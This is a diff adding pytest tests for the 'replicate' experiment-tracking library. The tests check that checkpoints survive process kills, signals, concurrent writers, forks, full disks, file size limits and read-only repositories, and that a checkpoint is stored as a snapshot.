+    assert done.returncode == -signal.SIGKILL
+    ids = done.stdout.split()
+    assert len(ids) == count and list(listed(repo).values()) == [ids]
+    experiment = replicate.experiments.list()[0]
+    assert [item.metrics for item in experiment.checkpoints] == [{"n": n, "list": [1, None]} for n in range(count)]
+    for number, item in enumerate(experiment.checkpoints if kind != "metrics" else ()):
+        item.checkout("out%d" % number, quiet=True)
+        if kind == "directory":
+            assert tree("out%d" % number) == {"model/deep/%d" % part: b"%d %d " % (number, part) * 5000
+                                              for part in range(30)}
+        else:
+            assert tree("out%d" % number) == {"model": (project / ("copy%d" % number)).read_bytes()}
+    assert run("ls").returncode == 0
+    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]] == ids
+    assert names_in(repo / "journals") == []
+
+
+def test_kill_9_at_any_moment_loses_nothing_that_was_returned(repo):
+    for number in range(6):
+        process = start_script("""
+            import replicate
+            experiment = replicate.init(quiet=True)
+            open("model", "wb").write(b"abcdefgh" * 50000)
+            while True:
+                print(experiment.checkpoint(metrics={"x": 1}, quiet=True).id, flush=True)
+                print(experiment.checkpoint(path="model", quiet=True).id, flush=True)
+            """)
+        for _ in range(20 + 37 * number):
+            process.stdout.readline()
+        process.kill()
+        finish(process)
+    returned = 0
+    for item in replicate.experiments.list():
+        returned += len(item.checkpoints)
+        for checkpoint in item.checkpoints[:6] + item.checkpoints[-3:]:
+            if checkpoint.path:
+                with checkpoint.open("model") as file:
+                    assert file.read() == b"abcdefgh" * 50000
+    assert returned >= sum(20 + 37 * number for number in range(6))
+    assert run("ls").returncode == 0 and names_in(repo / "journals") == []
+    assert sum(len(item["checkpoints"]) for item in stored_documents(repo)) == returned
+
+
+@pytest.mark.parametrize("processes", [2, 4])
+def test_processes_that_record_into_one_experiment_lose_nothing(repo, processes):
+    write_repository(repo, experiment_document(hex_id("1e")))
+    script = """
+        import sys, replicate
+        experiment = replicate.experiments.get("1e")
+        for number in range(300):
+            experiment.checkpoint(metrics={"who": int(sys.argv[1]), "n": number}, quiet=True)
+            if number % 50 == 0:
+                experiment.stop()
+        """
+    running = [start_script(script, number) for number in range(processes)]
+    for process in running:
+        out, err = finish(process)
+        assert process.returncode == 0 and err == "", err
+    stored = [(item["metrics"]["who"], item["metrics"]["n"]) for item in stored_documents(repo)[0]["checkpoints"]]
+    assert sorted(stored) == [(who, number) for who in range(processes) for number in range(300)]
+    assert names_in(repo / "journals") == names_in(repo / "tmp") == names_in(repo / "metadata/heartbeats") == []
+
+
+def test_recording_while_others_list_and_remove(repo):
+    """A checkpoint that is removed while its experiment is recorded is not put back, and no other is lost."""
+    process = start_script("""
+        import sys, replicate
+        experiment = replicate.init(quiet=True)
+        open("model", "wb").write(b"text " * 200000)
+        for line in sys.stdin:
+            print(experiment.checkpoint(path="model", metrics={"n": int(line)}, quiet=True).id, flush=True)
+        """)
+    ids, removed = [], set()
+    for number in range(12):
+        process.stdin.write("%d\n" % number)
+        process.stdin.flush()
+        ids.append(process.stdout.readline().strip())
+        if number % 3 == 1:
+            victim = ids[-1] if number % 2 else ids[0]
+            if victim not in removed:
+                removed.add(victim)
+                assert run("rm", "-f", victim).returncode == 0
+        assert list(listed(repo).values()) == [[item for item in ids if item not in removed]]
+    out, err = finish(process)
+    assert process.returncode == 0 and err == ""
+    assert len(removed) >= 3
+    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]] == [i for i in ids if i not in removed]
+    assert names_in(repo / "checkpoints") == sorted(item + ".tar.gz" for item in ids if item not in removed)
+    assert names_in(repo / "journals") == names_in(repo / "tmp") == []
+
+
+@pytest.mark.parametrize("moment", ["at rest", "journal open", "before stop"])
+def test_an_experiment_that_is_removed_while_it_is_recorded_stays_removed(project, repo, moment):
+    (project / "model").write_bytes(b"text " * 2000000)
+    process = start_script("""
+        import sys, replicate
+        experiment = replicate.init(path="model", quiet=True)
+        experiment.checkpoint(path="model", metrics={"n": 1}, quiet=True)
+        print(experiment.id, flush=True)
+        for line in sys.stdin:
+            for number in range(int(line)):
+                experiment.checkpoint(path="model" if number % 5 == 0 else None, metrics={"n": number}, quiet=True)
+            print("done", flush=True)
+        experiment.checkpoint(metrics={"n": 1}, quiet=True)
+        """)
+    experiment_id = process.stdout.readline().strip()
+    if moment == "journal open":
+        process.stdin.write("3\n")
+        process.stdin.flush()
+        process.stdout.readline()
+    elif moment == "at rest":
+        wait_until(lambda: len(stored_documents(repo)[0]["checkpoints"]) == 1 and not names_in(repo / "tmp"))
+    assert run("rm", "-f", experiment_id).returncode == 0
+    if moment != "before stop":
+        for _ in range(2):
+            process.stdin.write("20\n")
+            process.stdin.flush()
+            assert process.stdout.readline() == "done\n"
+    out, err = finish(process)
+    assert process.returncode == 0
+    assert len(err.splitlines()) == 1 and "was removed" in err and experiment_id[:7] in err
+    assert list(tree(repo)) == ["repository.json"]
+
+
+def test_a_removed_experiment_is_noticed_by_the_next_heartbeat(project, repo, monkeypatch, capsys):
+    monkeypatch.setattr(replicate, "HEARTBEAT_INTERVAL", 0.05)
+    experiment = replicate.init(quiet=True)
+    assert run("rm", "-f", experiment.id).returncode == 0
+    wait_until(lambda: "was removed" in capsys.readouterr().err)
+    wait_until(lambda: list(tree(repo)) == ["repository.json"])
+    experiment.checkpoint(metrics={"x": 1})
+    experiment.stop()
+    assert list(tree(repo)) == ["repository.json"] and capsys.readouterr().err == ""
+
+
+def test_the_heartbeat(project, repo, monkeypatch):
+    monkeypatch.setattr(replicate, "HEARTBEAT_INTERVAL", 0.05)
+    experiment = replicate.init(quiet=True)
+    path = repo / "metadata/heartbeats" / (experiment.id + ".json")
+    first = json.loads(path.read_text())
+    assert set(first) == {"experiment_id", "last_heartbeat"} and first["experiment_id"] == experiment.id
+    moment = re.fullmatch(r"(\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d)(?:\.\d{1,9})?Z", first["last_heartbeat"]).group(1)
+    age = time.time() - replicate.parse_time(moment + "Z").timestamp()
+    assert -1 <= age < 25
+    wait_until(lambda: json.loads(path.read_text())["last_heartbeat"] > first["last_heartbeat"])
+    assert experiment.is_running() and run("ps", "-q").stdout.split() == [experiment.id]
+    experiment.stop()
+    assert not path.exists() and not experiment.is_running() and run("ps", "-q").stdout == ""
+    experiment.stop()
+    experiment.checkpoint(metrics={"x": 1}, quiet=True)
+    assert path.exists() and experiment.is_running()
+    experiment.stop()
+    assert not path.exists()
+    assert len(stored_documents(repo)[0]["checkpoints"]) == 1
+
+
+def test_disable_heartbeat(repo, monkeypatch):
+    monkeypatch.setattr(replicate, "HEARTBEAT_INTERVAL", 0.02)
+    experiment = replicate.init(disable_heartbeat=True, quiet=True)
+    experiment.checkpoint(metrics={"x": 1}, quiet=True)
+    wait_until(lambda: stored_documents(repo)[0]["checkpoints"])
+    assert names_in(repo / "metadata/heartbeats") == [] and not experiment.is_running()
+    experiment.stop()
+    experiment.checkpoint(metrics={"x": 2}, quiet=True)
+    assert names_in(repo / "metadata/heartbeats") == []
+    experiment.stop()
+    assert len(stored_documents(repo)[0]["checkpoints"]) == 2
+
+
+@pytest.mark.parametrize("end, code", [("", 0), ("raise ValueError('mine')", 1), ("sys.exit(3)", 3),
+                                       ("raise KeyboardInterrupt", -signal.SIGINT), ("raise SystemExit", 0),
+                                       ("experiment.stop()", 0), ("del experiment", 0)])
+def test_every_end_of_the_process_stops_the_experiment(project, repo, end, code):
+    (project / "model").write_bytes(b"0123456789abcdef" * (1 << 20))
+    done = run_script("""
+        import sys, replicate
+        experiment = replicate.init(quiet=True)
+        for number in range(5):
+            experiment.checkpoint(path="model" if number > 2 else None, metrics={"n": number}, quiet=True)
+        exec(sys.argv[1])
+        """, end, check=False)
+    assert done.returncode in (code, 130 if code == -signal.SIGINT else code)
+    assert errors_in(done.stderr) == []
+    document, = stored_documents(repo)
+    assert [item["metrics"]["n"] for item in document["checkpoints"]] == [0, 1, 2, 3, 4]
+    assert names_in(repo / "metadata/heartbeats") == names_in(repo / "journals") == names_in(repo / "tmp") == []
+    for item in document["checkpoints"][3:]:
+        archive = repo / "checkpoints" / (item["id"] + ".tar.gz")
+        assert archive.stat().st_size < 2 << 20  # compressed before the end
+        with tarfile.open(str(archive)) as tar:
+            assert tar.extractfile(item["id"] + "/model").read() == (project / "model").read_bytes()
+
+
+def test_the_end_of_with_stops_and_an_exception_passes_through(repo):
+    with pytest.raises(ZeroDivisionError):
+        with replicate.init(quiet=True) as experiment:
+            experiment.checkpoint(metrics={"a": 1}, quiet=True)
+            experiment.checkpoint(metrics={"a": 2}, quiet=True)
+            assert experiment.is_running()
+            1 / 0
+    assert not experiment.is_running() and len(stored_documents(repo)[0]["checkpoints"]) == 2
+    assert names_in(repo / "journals") == []
+
+
+def test_init_again_stops_the_earlier_experiment_and_create_does_not(repo):
+    first = replicate.init(params={"n": 1}, quiet=True)
+    first.checkpoint(metrics={"x": 1}, quiet=True)
+    first.checkpoint(metrics={"x": 2}, quiet=True)
+    second = replicate.init(params={"n": 2}, quiet=True)
+    assert not first.is_running() and second.is_running()
+    assert [len(item["checkpoints"]) for item in stored_documents(repo) if item["id"] == first.id] == [2]
+    third = replicate.Project().experiments.create(params={"n": 3}, quiet=True)
+    assert second.is_running() and third.is_running()
+    first.checkpoint(metrics={"x": 3}, quiet=True)
+    assert first.is_running() and second.is_running()
+    assert first.checkpoints[-1].step == 2
+    replicate.init(quiet=True)
+    assert not first.is_running() and not second.is_running() and not third.is_running()
+    assert [len(item["checkpoints"]) for item in stored_documents(repo) if item["id"] == first.id] == [3]
+
+
+@pytest.mark.parametrize("work", ["sleep", "busy", "compressing", "inside checkpoint"])
+def test_sigterm_flushes_marks_stopped_and_kills(project, repo, work):
+    (project / "model").write_bytes(b"0123456789abcdef" * (2 << 20))
+    process = start_script("""
+        import sys, time, replicate
+        experiment = replicate.init(quiet=True)
+        work = sys.argv[1]
+        for number in range(3):
+            print(experiment.checkpoint(path="model" if work == "compressing" else None, metrics={"n": number},
+                                        quiet=True).id, flush=True)
+        print("ready", flush=True)
+        while work == "inside checkpoint":
+            print(experiment.checkpoint(metrics={"n": 5}, quiet=True).id, flush=True)
+        while work == "busy":
+            pass
+        time.sleep(60)
+        """, work)
+    ids = []
+    for line in iter(process.stdout.readline, "ready\n"):
+        ids.append(line.strip())
+    for _ in range(300 if work == "inside checkpoint" else 0):
+        ids.append(process.stdout.readline().strip())
+    process.terminate()
+    out, err = finish(process)
+    assert process.returncode == -signal.SIGTERM and err == ""
+    ids += out.split() if out.endswith("\n") or not out else out.split()[:-1]
+    assert [item["id"] for item in stored_documents(repo)[0]["checkpoints"]][:len(ids)] == ids
+    assert names_in(repo / "metadata/heartbeats") == names_in(repo / "journals") == []
+
+
+@pytest.mark.parametrize("handler, code", [("sys.exit(3)", 3), ("raise KeyError(number)", 1), ("None", 0)])
+def test_sigterm_is_handed_to_the_handler_that_was_there(repo, handler, code):
+    process = start_script("""
+        import os, signal, sys, time, replicate
+        def mine(number, frame):
+            print("mine", number, frame is not None, os.listdir("repo/metadata/heartbeats"), flush=True)
+            exec(sys.argv[1])
+            global waiting
+            waiting = False
+        waiting = True
+        signal.signal(signal.SIGTERM, mine)
+        experiment = replicate.init(quiet=True)
+        experiment.checkpoint(metrics={"n": 1}, quiet=True)
+        experiment.checkpoint(metrics={"n": 2}, quiet=True)
+        print("ready", flush=True)
+        while waiting:
+            time.sleep(0.01)
+        experiment.checkpoint(metrics={"n": 3}, quiet=True)
+        """, handler)
+    assert process.stdout.readline() == "ready\n"
+    process.terminate()
+    out, err = finish(process)
+    assert out == "mine 15 True []\n" and process.returncode == code, err
+    assert len(stored_documents(repo)[0]["checkpoints"]) == (3 if code == 0 else 2)
+    assert names_in(repo / "metadata/heartbeats") == []
+
+
+def test_sigterm_with_a_handler_of_the_script_around_ours(repo):
+    """The script's own handler is set after the first init() and calls the one before; a second init() follows."""
+    process = start_script("""
+        import signal, time, replicate
+        replicate.init(quiet=True)
+        before = signal.getsignal(signal.SIGTERM)
+        def mine(number, frame):
+            print("mine", flush=True)
+            before(number, frame)
+        signal.signal(signal.SIGTERM, mine)
+        experiment = replicate.init(quiet=True)
+        experiment.checkpoint(metrics={"n": 1}, quiet=True)
+        print("ready", flush=True)
+        time.sleep(60)
+        """)
+    assert process.stdout.readline() == "ready\n"
+    process.terminate()
+    out, err = finish(process)
+    assert out == "mine\n" and process.returncode == -signal.SIGTERM, err
+    assert names_in(repo / "metadata/heartbeats") == []
+
+
+def test_a_program_that_ignores_sigterm_goes_on_doing_so(repo):
+    process = start_script("""
+        import signal, sys, replicate
+        signal.signal(signal.SIGTERM, signal.SIG_IGN)
+        experiment = replicate.init(quiet=True)
+        print("ready", flush=True)
+        sys.stdin.readline()
+        experiment.checkpoint(metrics={"n": 1}, quiet=True)
+        """)
+    assert process.stdout.readline() == "ready\n"
+    process.terminate()
+    process.stdin.write("\n")
+    out, err = finish(process)
+    assert process.returncode == 0 and err == "" and len(stored_documents(repo)[0]["checkpoints"]) == 1
+
+
+def test_recording_in_a_thread_other_than_the_main_one(repo):
+    run_script("""
+        import threading, replicate
+        def work():
+            experiment = replicate.init(quiet=True)
+            for number in range(20):
+                experiment.checkpoint(metrics={"n": number}, quiet=True)
+        thread = threading.Thread(target=work)
+        thread.start()
+        thread.join()
+        """)
+    assert len(stored_documents(repo)[0]["checkpoints"]) == 20
+    assert names_in(repo / "metadata/heartbeats") == names_in(repo / "journals") == []
+
+
+def test_many_threads_may_call_checkpoint(project, repo):
+    (project / "model").write_bytes(b"weights")
+    experiment = replicate.init(quiet=True)
+
+    def work(who):
+        for number in range(50):
+            experiment.checkpoint(path="model" if number % 10 == 0 else None, metrics={"who": who, "n": number},
+                                  quiet=True)
+    threads = [threading.Thread(target=work, args=(who,)) for who in range(6)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    experiment.stop()
+    stored = [(item["metrics"]["who"], item["metrics"]["n"]) for item in stored_documents(repo)[0]["checkpoints"]]
+    assert sorted(stored) == [(who, number) for who in range(6) for number in range(50)]
+    assert len(names_in(repo / "checkpoints")) == 30
+
+
+@pytest.mark.parametrize("end", ["os._exit(0)", "sys.exit(0)", "raise ValueError", "experiment.stop()",
+                                 "replicate.stop_all()", "os.kill(os.getpid(), 15)"])
+def test_a_forked_child_neither_records_nor_stops(repo, end):
+    done = run_script("""
+        import os, sys, time, replicate
+        experiment = replicate.init(quiet=True)
+        experiment.checkpoint(metrics={"n": 1}, quiet=True)
+        child = os.fork()
+        if not child:
+            for number in range(3):
+                checkpoint = experiment.checkpoint(path="nothing", metrics={"child": number}, quiet=True)
+                assert checkpoint.metrics == {"child": number}
+            with experiment:
+                pass
+            exec(sys.argv[1])
+            os._exit(0)
+        status = os.waitpid(child, 0)[1]
+        print(experiment.is_running(), os.listdir("repo/metadata/heartbeats") == [experiment.id + ".json"])
+        experiment.checkpoint(metrics={"n": 2}, quiet=True)
+        print(status, flush=True)
+        """, end)
+    lines = done.stdout.splitlines()
+    assert lines[0] == "True True", done.stderr
+    assert int(lines[1]) == {"raise ValueError": 256, "os.kill(os.getpid(), 15)": 15}.get(end, 0)
+    assert [item["metrics"] for item in stored_documents(repo)[0]["checkpoints"]] == [{"n": 1}, {"n": 2}]
+    assert names_in(repo / "metadata/heartbeats") == names_in(repo / "journals") == names_in(repo / "tmp") == []
+
+
+def test_multiprocessing_children_neither_record_nor_stop(project, repo):
+    (project / "train.py").write_text(textwrap.dedent("""
+        import multiprocessing, time, replicate
+        def load(number):
+            experiment.checkpoint(metrics={"child": number}, quiet=True)
+            return number * number
+        def hang():
+            experiment.stop()
+            started.set()
+            time.sleep(60)
+        context = multiprocessing.get_context("fork")
+        started = context.Event()
+        experiment = replicate.init(quiet=True)
+        with context.Pool(3) as pool:
+            print(pool.map(load, range(10)))
+        worker = context.Process(target=hang)
+        worker.start()
+        started.wait()
+        worker.terminate()
+        worker.join()
+        print(worker.exitcode, experiment.is_running())
+        experiment.checkpoint(metrics={"n": 1}, quiet=True)
+        """))
+    done = subprocess.run([sys.executable, "train.py"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, timeout=60)
+    assert done.stdout.decode().splitlines() == [str([n * n for n in range(10)]), "-15 True"], done.stderr.decode()
+    assert [item["metrics"] for item in stored_documents(repo)[0]["checkpoints"]] == [{"n": 1}]
+    assert names_in(repo / "metadata/heartbeats") == []
+
+
+def test_a_child_that_is_terminated_at_once_dies(repo):
+    """A signal that arrives while a process forks must not get lost because we handle SIGTERM."""
+    done = run_script("""
+        import multiprocessing, sys, time, replicate
+        replicate.init(quiet=True)
+        codes = []
+        for number in range(20):
+            worker = multiprocessing.get_context("fork").Process(target=time.sleep, args=(60,))
+            worker.start()
+            worker.terminate()
+            worker.join(5)
+            codes.append(worker.exitcode)
+            if worker.exitcode is None:
+                worker.kill()
+                break
+        print(set(codes))
+        """)
+    assert done.stdout == "{-15}\n"
+    assert [item["checkpoints"] for item in stored_documents(repo)] == [[]]
+
+
+@pytest.mark.parametrize("variables, records", [
+    ({}, True), ({"RANK": "0"}, True), ({"RANK": "0", "LOCAL_RANK": "0", "SLURM_PROCID": "0"}, True),
+    ({"RANK": "1"}, False), ({"LOCAL_RANK": "3"}, False), ({"SLURM_PROCID": "12"}, False),
+    ({"OMPI_COMM_WORLD_RANK": "1"}, False), ({"RANK": "8", "LOCAL_RANK": "0"}, False), ({"RANK": ""}, True),
+    ({"RANK": "x"}, True)])
+def test_only_rank_0_records(project, repo, monkeypatch, capsys, variables, records):
+    (project / "model").write_text("weights")
+    for name, value in variables.items():
+        monkeypatch.setenv(name, value)
+    with replicate.init(path=".", params={"x": 1}) as experiment:
+        first = experiment.checkpoint(path="model", metrics={"loss": 2.0}, primary_metric=("loss", "minimize"))
+        second = experiment.checkpoint(metrics={"loss": 1.0})
+        assert (first.step, second.step, second.metrics) == (0, 1, {"loss": 1.0})
+        assert experiment.best() is second and experiment.latest() is second
+        assert experiment.checkpoints.metrics["loss"] == [2.0, 1.0] and experiment.params == {"x": 1}
+        assert experiment.is_running() is records
+        experiment._repr_html_()
+        experiment.refresh()
+    assert (repo / "repository.json").exists() is records
+    if not records:
+        assert not repo.exists() and capsys.readouterr().err == ""
+        with pytest.raises(replicate.DoesNotExist):
+            first.open("model")
+        experiment.delete()
+        assert replicate.Project().experiments.create(params={"y": 1}).checkpoint(step=4).step == 4
+        assert not repo.exists()
+
+
+FILLS_THE_DISK = """
+    import json, os, sys, time, replicate
+    def fill(size=1 << 16):
+        with open("filler", "ab", 0) as file:
+            while size:
+                try:
+                    file.write(b"x" * size)
+                except OSError:
+                    size //= 2
+    def wait(count):
+        document = "repo/metadata/experiments/%s.json" % experiment.id
+        while len(json.load(open(document))["checkpoints"]) < count:
+            time.sleep(0.01)
+    open("weights", "wb").write(os.urandom(100000))
+    experiment = replicate.init(params={"x": 1}, quiet=True)
+    experiment.checkpoint(path="weights", metrics={"n": 0}, quiet=True)
+    wait(1)
+    """
+
+
+@pytest.mark.parametrize("then", ["room and a checkpoint", "room and stop", "no room"])
+def test_a_full_disk(small_disk, then):
+    disk = small_disk(1024)
+    (disk / "replicate.yaml").write_text("repository: file://repo\n")
+    done = run_script(FILLS_THE_DISK + """
+    fill()
+    print("full", file=sys.stderr, flush=True)
+    made = [experiment.checkpoint(path="weights" if number == 1 else None, metrics={"n": number}, quiet=True)
+            for number in range(1, 200)]
+    assert [item.metrics["n"] for item in made] == list(range(1, 200))
+    found = replicate.experiments.get(experiment.id)
+    assert found.checkpoints[0].metrics == {"n": 0}
+    found.checkpoints[0].open("weights").read() == open("weights", "rb").read() or sys.exit("damaged")
+    print("listed", file=sys.stderr, flush=True)
+    if sys.argv[1] != "no room":
+        os.unlink("filler")
+    if sys.argv[1] == "room and a checkpoint":
+        experiment.checkpoint(path="weights", metrics={"n": 200}, quiet=True)
+    experiment.stop()
+    print("stopped", file=sys.stderr, flush=True)
+    """, then, cwd=str(disk))
+    before, during, stopping, after = re.fullmatch(r"(?s)(.*)full\n(.*)listed\n(.*)stopped\n(.*)", done.stderr).groups()
+    assert "Traceback" not in done.stderr
+    assert "weights" in during.splitlines()[0] or "No space left" in during.splitlines()[0]
+    assert all("No space left" in line for line in errors_in(during))
+    document, = stored_documents(disk / "repo")
+    numbers = [item["metrics"]["n"] for item in document["checkpoints"]]
+    if then == "no room":
+        assert numbers[0] == 0 and listed(disk / "repo")[document["id"]][0] == document["checkpoints"][0]["id"]
+        assert 1 <= len(errors_in(stopping)) <= 2 and after == ""  # the journal and the document, once each
+    else:
+        assert numbers == list(range(201 if then == "room and a checkpoint" else 200))
+        assert errors_in(stopping) == []
+        assert names_in(disk / "repo/journals") == []
+    assert names_in(disk / "repo/tmp") == names_in(disk / "repo/metadata/heartbeats") == []
+    archives = {item["id"] + ".tar.gz" for item in document["checkpoints"] if item["path"]}
+    assert set(names_in(disk / "repo/checkpoints")) == archives
+    for name in archives:
+        with tarfile.open(str(disk / "repo/checkpoints" / name)) as tar:
+            assert tar.extractfile(name[:64] + "/weights").read() == (disk / "weights").read_bytes()
+
+
+def test_a_full_disk_before_any_journal_is_open(small_disk):
+    """Not even the journal can be made; what was refused comes into the document at stop()."""
+    disk = small_disk(1024)
+    (disk / "replicate.yaml").write_text("repository: file://repo\n")
+    done = run_script(FILLS_THE_DISK + """
+    while os.listdir("repo/journals"):
+        time.sleep(0.01)
+    os.rename("repo/journals", "elsewhere")
+    open("repo/journals", "w").close()
+    experiment.checkpoint(metrics={"n": 1}, quiet=True)
+    os.unlink("repo/journals")
+    os.rename("elsewhere", "repo/journals")
+    experiment.stop()
+    """, cwd=str(disk))
+    assert len(errors_in(done.stderr)) >= 1 and "Traceback" not in done.stderr
+    assert [item["metrics"]["n"] for item in stored_documents(disk / "repo")[0]["checkpoints"]] == [0, 1]
+
+
+def test_a_file_size_limit(project, repo):
+    """As a quota or RLIMIT_FSIZE sets it: the large file is refused, then the document; then the limit is lifted."""
+    done = run_script("""
+        import os, resource, signal, sys, replicate
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+        open("large", "wb").write(os.urandom(300000))
+        open("small", "wb").write(os.urandom(3000))
+        experiment = replicate.init(path="small", quiet=True)
+        resource.setrlimit(resource.RLIMIT_FSIZE, (50000, resource.RLIM_INFINITY))
+        experiment.checkpoint(path="large", metrics={"n": 0})
+        experiment.checkpoint(path="small", metrics={"n": 1}, quiet=True)
+        for number in range(2, 1500):
+            experiment.checkpoint(metrics={"n": number}, quiet=True)
+        resource.setrlimit(resource.RLIMIT_FSIZE, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+        experiment.checkpoint(path="large", metrics={"n": 1500}, quiet=True)
+        experiment.stop()
+        print("end")
+        """)
+    assert done.stdout == "end\n" and "Traceback" not in done.stderr
+    errors = errors_in(done.stderr)
+    assert "File too large" in errors[0] and "The rest of it was recorded" in errors[0]
+    document, = stored_documents(repo)
+    assert [item["metrics"]["n"] for item in document["checkpoints"]] == list(range(1501))
+    assert [item["path"] for item in document["checkpoints"][:2]] == [None, "small"]
+    assert document["checkpoints"][1500]["path"] == "large" and len(names_in(repo / "checkpoints")) == 2
+    assert names_in(repo / "journals") == names_in(repo / "tmp") == []
+
+
+def test_stop_under_a_file_size_limit_raises_nothing(project, repo):
+    done = run_script("""
+        import resource, signal, replicate
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+        experiment = replicate.init(quiet=True)
+        resource.setrlimit(resource.RLIMIT_FSIZE, (0, resource.RLIM_INFINITY))
+        experiment.checkpoint(metrics={"n": 0}, quiet=True)
+        experiment.checkpoint(metrics={"n": 1}, quiet=True)
+        experiment.stop()
+        print("end")
+        """)
+    assert done.stdout == "end\n" and "Traceback" not in done.stderr
+    assert run("ls", "-q").returncode == 0 and "readable" not in run("ls").stderr
+
+
+def test_init_that_fails_half_way_leaves_no_files_behind(project, repo):
+    (project / "small").write_text("code")
+    done = run_script("""
+        import resource, signal, replicate
+        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
+        resource.setrlimit(resource.RLIMIT_FSIZE, (20000, resource.RLIM_INFINITY))
+        try:
+            replicate.init(path="small", params={"much": "x" * 30000}, quiet=True)
+        except replicate.WriteError as error:
+            print(error)
+        """)
+    assert "File too large" in done.stdout
+    assert [name for name in tree(repo) if name != "repository.json"] == []
+
+
+@pytest.fixture
+def shared_project():
+    """A project directory that other users can reach (pytest's are private)."""
+    import tempfile
+    if not hasattr(os, "getuid") or os.getuid() != 0:
+        pytest.skip("only root can become another user")
+    directory = Path(tempfile.mkdtemp(prefix="replicate-test-", dir="/tmp"))
+    directory.chmod(0o755)
+    (directory / "replicate.yaml").write_text("repository: file://repo\n")
+    yield directory
+    shutil.rmtree(str(directory))
+
+
+BECOMES_NOBODY = """
+        import argparse, atexit, datetime, difflib, errno, fcntl, json, locale, os, platform, pwd, queue, re, shlex
+        import shutil, signal, stat, sys, tarfile, tempfile, textwrap, time, traceback, zlib  # while they can be read
+        import encodings.idna, encodings.unicode_escape, subprocess, replicate
+        platform.uname()
+        os.environ["HOME"] = "/nonexistent"
+        replicate.find_location()
+        replicate.masked_command(["x"])
+        os.setgid(65534)
+        os.setuid(65534)
+"""
+
+
+def test_a_repository_that_may_only_be_read(shared_project):
+    repo = shared_project / "repo"
+    write_repository(repo, experiment_document(hex_id("1e")))
+    (repo / "journals").mkdir()
+    (repo / "journals" / (hex_id("1e") + ".00.jsonl")).write_text(
+        json.dumps({"checkpoint": checkpoint_document(hex_id("1c"))}))
+    before = tree(repo)
+    done = run_script(BECOMES_NOBODY + """
+        print(len(replicate.experiments.list()[0].checkpoints), replicate.main(["ls"]), replicate.main(["rm", "-f", "1e"]))
+        try:
+            replicate.init(quiet=True)
+        except replicate.WriteError as error:
+            print(error)
+        """, cwd=str(shared_project))
+    assert done.stdout.splitlines()[-2].startswith("1 0 1")
+    assert "cannot be written: Permission denied" in done.stdout.splitlines()[-1]
+    assert "cannot be removed" in done.stderr and "Traceback" not in done.stderr
+    assert tree(repo) == before
+
+
+def test_a_repository_that_becomes_read_only_while_recording(shared_project):
+    repo = shared_project / "repo"
+    repo.mkdir()
+    os.chown(str(repo), 65534, 65534)
+    done = run_script(BECOMES_NOBODY + """
+        experiment = replicate.init(quiet=True)
+        experiment.checkpoint(metrics={"n": 0}, quiet=True)
+        while not replicate.Repository("file://" + os.path.abspath("repo")).storage.read(
+                "metadata/experiments/%s.json" % experiment.id).count(b'"n": 0') or os.listdir("repo/journals"):
+            time.sleep(0.01)
+        folders = ["repo/" + name for name in ("journals", "tmp", "metadata/experiments", "metadata/heartbeats")]
+        for folder in folders:
+            os.chmod(folder, 0o555)
+        for number in range(1, 4):
+            experiment.checkpoint(metrics={"n": number}, quiet=True)
+        experiment.stop()
+        print("stopped", flush=True)
+        for folder in folders:
+            os.chmod(folder, 0o755)
+        experiment.checkpoint(metrics={"n": 4}, quiet=True)
+        experiment.stop()
+        """, cwd=str(shared_project))
+    assert done.stdout == "stopped\n" and "Traceback" not in done.stderr and "Permission denied" in done.stderr
+    numbers = [item["metrics"]["n"] for item in stored_documents(repo)[0]["checkpoints"]]
+    assert numbers[0] == 0 and numbers[-1] == 4
+
+
+@pytest.mark.parametrize("size", [10, 3000, 400000, 12000000])
+@pytest.mark.parametrize("how", ["overwrite", "append", "truncate", "delete", "replace"])
+def test_a_checkpoint_is_a_snapshot(project, size, how):
+    model = project / "model"
+    content = (b"%08d" % size) * (size // 8 + 1)
+    model.write_bytes(content)
+    experiment = replicate.init(quiet=True)
+    checkpoint = experiment.checkpoint(path="model", quiet=True)
+    if how == "overwrite":
+        with open(str(model), "r+b") as file:
+            file.write(b"\0" * len(content))
+    elif how == "append":
+        with open(str(model), "ab") as file:
+            file.write(b"more")
+    elif how == "truncate":
+        os.truncate(str(model), 0)
+    elif how == "delete":
+        model.unlink()
+    else:
+        (project / "new").write_bytes(b"new")
+        os.replace(str(project / "new"), str(model))
+    assert checkpoint.open("model").read() == content
+    experiment.stop()
+    assert checkpoint.open("model").read() == content
+
+
+def test_every_reader_sees_a_checkpoint_soon(project, repo):
+    """The peer reads documents alone: slow checkpoints must appear in them without a stop()."""
+    experiment = replicate.init(quiet=True)
+    for number in range(3):
+        made = experiment.checkpoint(metrics={"n": number}, quiet=True)
+        wait_until(lambda: made.id in [item["id"] for item in stored_documents(repo)[0]["checkpoints"]])
+    assert experiment.is_running()
+
+
+def test_ten_thousand_checkpoints_cost_in_proportion(repo):
+    if not os.path.exists("/proc/self/io"):
+        pytest.skip("needs /proc/self/io to count the bytes written")
+    done = run_script("""
+        import json, time, replicate
+        documents = []
+        write = replicate.DiskStorage.write
+        def counted(self, key, data):
+            documents.append(key)
+            write(self, key, data)
+        replicate.DiskStorage.write = counted
+        written = lambda: int([line for line in open("/proc/self/io") if line.startswith("wchar")][0].split()[1])
+        start = time.monotonic()
+        experiment = replicate.init(params={"x": 1}, quiet=True)
+        for number in range(10000):
+            experiment.checkpoint(metrics={"loss": 1 / (number + 1)}, primary_metric=("loss", "minimize"), quiet=True)
+        experiment.stop()
+        print(json.dumps([len([key for key in documents if "experiments/" in key]), written(),
+                          time.monotonic() - start]))
+        """)
+    writings, size, seconds = json.loads(done.stdout)
+    document, = stored_documents(repo)
+    assert [item["step"] for item in document["checkpoints"]] == list(range(10000))
+    assert [item["metrics"]["loss"] for item in document["checkpoints"]] == [1 / (n + 1) for n in range(10000)]
+    assert len({item["id"] for item in document["checkpoints"]}) == 10000
+    created = [item["created"] for item in document["checkpoints"]]
+    assert created == sorted(created) and len(set(created)) == 10000
+    assert writings <= 5 + seconds
+    final = (repo / "metadata/experiments" / (document["id"] + ".json")).stat().st_size
+    assert size <= final * (2 + 0.6 * writings)
